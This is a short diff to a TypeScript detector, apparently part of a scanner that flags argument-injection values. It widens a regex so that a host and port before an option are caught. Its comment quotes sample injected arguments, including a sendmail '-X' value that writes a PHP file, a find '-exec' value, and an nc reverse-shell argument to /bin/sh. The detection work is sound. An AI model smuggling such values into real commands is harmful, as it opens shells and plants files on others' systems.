@@ -17,10 +17,10 @@ import { finding } from "./text.ts";
 /**
  * A value that opens with an option (a dash and a letter, or two dashes and a letter), or with one
  * token and then an option: the address that sendmail's `-f` was given (`a@b.c -X/var/www/x.php`), the
- * name that find's `-name` was (`x -exec id ;`). A token that is itself a command's name makes a
+ * name that find's `-name` was (`x -exec id ;`), or a host and a port (nc's `10.0.0.1 4444 -e /bin/sh`). A token that is itself a command's name makes a
  * command line (`git -c core.sshCommand=... clone`, quoted in help text), which the shell analyzer judges.
  */
-const OPENS_WITH_OPTION = /^[ \t]*(?:([^\s-][^\s]{0,63})[ \t]+)?--?[A-Za-z]/;
+const OPENS_WITH_OPTION = /^[ \t]*(?:([^\s-][^\s]{0,63})[ \t]+(?:\d{1,5}[ \t]+)?)?--?[A-Za-z]/;
 /** Where the options end: a line break, or `--` on its own. */
 const OPTIONS_END = /[\r\n]|\s--(?=\s|$)/;
 
